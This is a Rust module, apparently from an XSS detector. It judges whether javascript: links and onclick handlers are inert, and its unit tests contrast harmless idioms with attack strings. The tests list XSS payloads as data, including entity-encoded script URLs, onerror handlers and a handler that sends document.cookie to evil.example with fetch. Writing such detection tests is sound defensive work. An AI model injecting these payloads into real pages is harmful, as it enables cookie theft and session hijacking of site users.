//! Script that does nothing: the code of `javascript:void(0)` links and of
//! `onclick="return false;"` handlers that every saved page and rich-text editor writes.

/// The confidence of a script URL or an event handler whose code is inert: below every level.
/// Saved pages and rich-text editors write them; the code runs nothing, and a filter probe
/// carries a call (`javascript:alert(1)`), which is judged as an attack.
pub(crate) const INERT: u8 = 35;

/// Whether `code` is only statements that do nothing, as pages write them: `void` of a literal
/// (`void(0)`, `void 0`) and `return` of a literal or of nothing (`return false;`), separated
/// by `;` and blanks, at least one of them. Anything else (a name, a call, an operator, a bare
/// literal such as `onxxx=1`, which only a filter probe writes) is not inert.
pub(crate) fn inert_code(code: &str) -> bool {
    let mut statements = 0;
    code.split(';').all(|stmt| {
        let t = stmt.trim_matches(|c: char| c.is_ascii_whitespace());
        if t.is_empty() {
            return true;
        }
        statements += 1;
        let operand = |kw: &str| t.strip_prefix(kw).filter(|r| r.is_empty() || r.starts_with(|c: char| c.is_ascii_whitespace() || c == '('));
        match operand("return").or_else(|| operand("void")) {
            Some(r) => literal(r),
            None => false,
        }
    }) && statements > 0
}

/// Whether a script URL's code does nothing: inert code ([`inert_code`]), or inert code
/// followed on the same line by words only (`void(0) meaning`, a search about the idiom):
/// JavaScript parses a script whole before running any of it, an expression followed by a name
/// is a syntax error, and words alone (no call, no assignment) could do nothing anyway.
pub(crate) fn inert_script_url(code: &str) -> bool {
    if inert_code(code) {
        return true;
    }
    let t = code.trim_start();
    match t.split_once(|c: char| c.is_ascii_whitespace()) {
        Some((head, tail)) => inert_code(head) && !head.trim().is_empty() && tail.bytes().all(|c| c.is_ascii_alphanumeric() || c.is_ascii_whitespace()),
        None => false,
    }
}

/// A literal, possibly parenthesised: a number, `true`, `false`, `null`, `undefined`, or
/// nothing after a `return`.
fn literal(t: &str) -> bool {
    let mut t = t.trim();
    while let Some(inner) = t.strip_prefix('(').and_then(|r| r.strip_suffix(')')) {
        t = inner.trim();
    }
    t.is_empty() || matches!(t, "true" | "false" | "null" | "undefined" | "!0" | "!1") || (t.bytes().all(|c| c.is_ascii_digit()) && t.len() <= 10)
}

/// The code of a script URL (what follows the scheme's `:`), when the URL has no
/// percent-encoding left to hide code behind.
pub(crate) fn script_url_code(url: &str) -> Option<&str> {
    let (_, code) = url.split_once(':')?;
    (!code.contains('%')).then_some(code)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn inert_statements() {
        for c in ["void(0)", "void 0", "void(0);", " return false; ", "return false", "return(false)", "void 0; return false", "return", "return !1"] {
            assert!(inert_code(c), "{c:?}");
        }
    }

    #[test]
    fn code_that_does_something_is_not_inert() {
        for c in [
            "alert(1)",
            "void(alert(1))",
            "void alert(1)",
            "return confirm(1)",
            "void(0);alert(1)",
            "toggleMenu()",
            "returnfalse",
            "voidx",
            "location='//evil.example'",
            "return document.cookie",
            "x=1",
            "1e3",
            // Bare literals: what a filter probe writes (`<x onxxx=1>`), not a page.
            "1",
            "0",
            "undefined",
            "",
            ";",
        ] {
            assert!(!inert_code(c), "{c:?}");
        }
    }

    fn confidence(s: &str) -> u8 {
        use crate::{Detector, FieldKind, Input, Level};
        super::super::XssDetector.check(&Input { raw: s, decoded: s, field: FieldKind::JsonValue }, Level::Strict).map_or(0, |h| h.confidence)
    }

    #[test]
    fn inert_links_and_handlers_pass_and_live_ones_are_attacks() {
        for s in ["<p><a href=\"javascript:void(0)\">Show more</a></p>", "<a href=\"#\" onclick=\"return false;\">toggle</a>", "javascript:void(0)"] {
            assert_eq!(confidence(s), 0, "{s}");
        }
        for s in [
            "<p><a href=\"javascript:alert(document.domain)\">Show more</a></p>",
            "<a href=\"#\" onclick=\"return false;alert(1)\">x</a>",
            "<a onclick=\"void(fetch('//evil.example/'+document.cookie))\">x</a>",
            "javascript:alert(1)",
        ] {
            assert!(confidence(s) >= 60, "{s}");
        }
    }

    #[test]
    fn escaped_code_in_markup_is_text() {
        use crate::engine::markup_document;
        assert!(markup_document("<p>a</p>"));
        assert!(markup_document("x <pre><code>&lt;b&gt;</code></pre>"));
        assert!(!markup_document("&lt;script&gt;alert(1)&lt;/script&gt;"));
        assert!(!markup_document("a < b and c </ d>"));
        assert!(!markup_document("<x>&lt;img src=x onerror=alert(1)&gt;"));
        let shown = "<p>Hmm</p><pre><code class=\"language-html\">&lt;script src=\"app.js\"&gt;&lt;/script&gt;</code></pre>";
        assert_eq!(confidence(shown), 0, "{shown}");
        // References alone (no markup around them) are still decoded: an application may.
        assert!(confidence("&lt;script&gt;alert(1)&lt;/script&gt;") >= 60);
        // Attribute values in markup are decoded as a browser does.
        assert!(confidence("<p>x</p><a href=\"&#106;avascript:alert(1)\">y</a>") >= 60);
        // Live markup beside the escaped code is still judged.
        assert!(confidence("<pre>&lt;b&gt;</pre><script>alert(1)</script>") >= 60);
    }

    #[test]
    fn inert_script_urls_followed_by_words() {
        for c in ["void(0) meaning", "void(0)  what is it", "void(0)"] {
            assert!(inert_script_url(c), "{c:?}");
        }
        for c in ["alert(1) meaning", "void(0) alert(1)", "void(0) x=1", "void(0);alert(1)", "  meaning", "void(0)\nalert(1)"] {
            assert!(!inert_script_url(c), "{c:?}");
        }
        assert_eq!(confidence("javascript:void(0) meaning"), 0);
    }

    #[test]
    fn code_of_a_script_url() {
        assert_eq!(script_url_code("javascript:void(0)"), Some("void(0)"));
        assert_eq!(script_url_code("javascript:%61lert(1)"), None);
        assert_eq!(script_url_code("javascript"), None);
    }
}
